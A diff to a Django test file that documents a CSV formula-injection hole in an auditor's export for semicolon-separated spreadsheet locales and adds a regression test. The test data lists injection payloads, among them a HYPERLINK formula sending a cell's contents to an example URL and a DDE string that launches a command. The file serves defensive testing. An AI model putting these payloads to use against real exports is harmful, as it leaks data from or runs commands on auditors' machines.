@@ -10,12 +10,21 @@ The rest of the API refuses a NUL as input, in names and values (lib/api.py): a 
 holding one is refused before anything is read or written, 400 in the API's one error
 shape, and no access event is written.
 
+Hole: the auditor's CSV export (Audit › Access events) neutralises a cell that starts
+with a formula trigger, but a spreadsheet whose locale separates lists with ";" (those
+where "," is the decimal mark: Excel in most of Europe opens a .csv with its list
+separator) splits the line at every ";", so `ticket 4;=HYPERLINK("https://…?"&A1)`
+as a purpose became a cell of its own starting with "=", a formula in the auditor's
+spreadsheet.
+
 Held: a purpose that is a formula, or holds the other control characters, is recorded
-as sent (tests/audit/test_csv_export.py: the auditor's export writes it as text).
+as sent (tests/audit/test_csv_export.py: the export writes a leading formula as text).
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -23,6 +32,7 @@ from django.test import Client
 
 from audit.models import AccessEvent
 from customers.models import Person
+from lib.spreadsheet import FORMULA_TRIGGERS
 from sorn.constants import Role
 from tests.access.conftest import USPS_810, person_in
 
@@ -88,3 +98,34 @@ def test_any_other_purpose_is_recorded_as_sent(client, ada, purpose):
     answer = client.get("/api/v1/customers/", HTTP_X_ACCESS_PURPOSE=purpose)
     assert answer.status_code == 200
     assert AccessEvent.objects.get().purpose == purpose
+
+
+SPLIT_FORMULAS = [
+    'ticket 4;=HYPERLINK("https://example.org/?"&A1,"open")',
+    "a;+1+cmd|' /C calc'!A0",
+    "a;;-2+3;@SUM(1)",
+    "a;\t=1+1",
+    'a;"=1+1"',
+]
+
+
+@pytest.mark.parametrize("purpose", SPLIT_FORMULAS)
+def test_no_cell_of_the_export_is_a_formula_where_lists_are_split_at_semicolons(
+    client, staff_user, ada, purpose
+):
+    assert client.get("/api/v1/customers/", HTTP_X_ACCESS_PURPOSE=purpose).status_code == 200
+    event = AccessEvent.objects.get()
+    auditor = Client()
+    auditor.force_login(staff_user(Role.AUDITOR))
+    export = auditor.post(
+        "/admin/audit/accessevent/", {"action": "export_events", "_selected_action": [event.pk]}
+    )
+    assert export.status_code == 200
+    text = export.content.decode()
+    # As a comma-separated file: the purpose is one cell, and no formula.
+    header, row = csv.reader(io.StringIO(text))
+    assert not row[header.index("purpose")].startswith(FORMULA_TRIGGERS)
+    # As a spreadsheet splitting each line at ";" reads it: no cell starts a formula,
+    # its quotes taken off.
+    cells = [cell.lstrip('"') for line in text.splitlines() for cell in line.split(";")]
+    assert [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)] == []
